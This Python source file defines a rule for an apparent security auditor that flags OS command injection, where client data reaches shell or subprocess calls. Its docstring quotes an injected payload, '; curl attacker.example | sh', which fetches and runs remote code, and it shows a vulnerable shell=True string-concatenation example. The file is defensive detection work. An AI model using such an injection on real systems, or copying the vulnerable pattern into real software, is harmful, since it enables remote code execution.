"""A command from a message.

What:
    Something that the client sent is a command, or a part of one that a shell reads.

Why:
    `; curl attacker.example | sh` in a field is a command of its own.

Example:
    subprocess.run("ping " + data["host"], shell=True)

Instead:
    subprocess.run(["ping", "-c1", "--", host(data["host"])], timeout=5)

Fix:
    Give a list of arguments that starts with a fixed program, without `shell=True`, and check
    each value.
"""

from collections.abc import Iterator

from stormdoor.auditor.facts.sinks import argument, from_client, is_called, reaching, sunk
from stormdoor.auditor.facts.spelling import Spelling, given_at
from stormdoor.auditor.interpreter.events import Event
from stormdoor.auditor.interpreter.values import Const, Sequence
from stormdoor.auditor.judging.endpoint import Endpoint
from stormdoor.auditor.rule import Found, rule
from stormdoor.report.finding import Check, Confidence, Level

__all__ = ["RULE"]

_SHELLS = (
    "os.system",
    "os.popen",
    "asyncio.create_subprocess_shell",
    "subprocess.getoutput",
    "subprocess.getstatusoutput",
    "commands.getoutput",
)
_PROGRAMS = (
    "subprocess.run",
    "subprocess.call",
    "subprocess.check_call",
    "subprocess.Popen",
    "subprocess.check_output",
    "asyncio.create_subprocess_exec",
    "os.execv",
    "os.execvp",
    "tornado.process.Subprocess",
    "pexpect.spawn",
    "pexpect.run",
)


_QUOTES = frozenset({"shlex.quote", "pipes.quote"})


def _check(endpoint: Endpoint) -> Iterator[Found]:
    spelling = Spelling(endpoint, _QUOTES)
    for event in reaching(endpoint, 0, ("cmd",), *_SHELLS):
        if _is_free(spelling, event, "cmd"):
            yield sunk(endpoint, event, f"A shell reads what the client sends: {event.text}().")
    for event in reaching(endpoint, 0, ("args",), *_PROGRAMS):
        given = argument(event, 0, "args")
        shell = dict(event.words).get("shell")
        in_shell = shell is not None and not (isinstance(shell, Const) and not shell.value)
        listed = isinstance(given, Sequence) and not in_shell
        # A list: its first item is the program, the others are arguments of it.
        if listed and isinstance(given, Sequence) and not any(map(from_client, given.items[:1])):
            continue
        if _is_free(spelling, event, "args"):
            yield sunk(endpoint, event, f"The client chooses the command: {event.text}().")


def _is_free(spelling: Spelling, event: Event, word: str) -> bool:
    return not is_called(event) or spelling.is_free(event, given_at(event, 0, word))


RULE = rule(
    __doc__,
    id="SD505",
    slug="command-from-message",
    level=Level.ERROR,
    confidence=Confidence.HIGH,
    group="messages",
    cwe=(78,),
    asvs=("1.2.5",),
    threat="message-injection",
    check=Check.VALIDATION,
    on_endpoint=_check,
)
